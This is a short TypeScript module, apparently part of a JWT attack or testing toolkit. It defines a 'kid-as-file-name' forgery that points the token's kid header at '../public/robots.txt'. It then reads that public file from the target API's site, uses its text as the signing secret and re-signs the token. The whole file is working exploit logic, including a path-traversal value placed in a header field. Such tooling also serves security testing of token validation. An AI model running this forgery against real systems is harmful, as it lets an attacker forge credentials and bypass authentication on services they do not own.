import { ok } from '../../../core/text/result.ts';
import { setMember } from '../../../core/text/set-member.ts';
import type { Forgery } from '../forgery.ts';
import { secretOfText } from '../secret-key.ts';
import { rewritten } from '../token-text.ts';
import { promote } from './promote.ts';
import { signIt } from './sign-it.ts';

/** RFC 8725 §2.9, §3.10. */
export const kidAsFileName: Forgery = {
  hole: 'kid-as-file-name',
  moves: [
    promote,
    {
      label: 'Let kid lead to a file that everybody knows',
      make: async (forged) =>
        ok({
          token: rewritten(forged.token, ({ header }) => ({
            header: setMember(header, 'kid', '"../public/robots.txt"'),
          })),
        }),
    },
    {
      label: 'Read that file on the API’s web site',
      make: async (forged, { file }) => ok({ ...forged, key: secretOfText(file.text) }),
    },
    signIt('Sign with its text as the secret'),
  ],
};
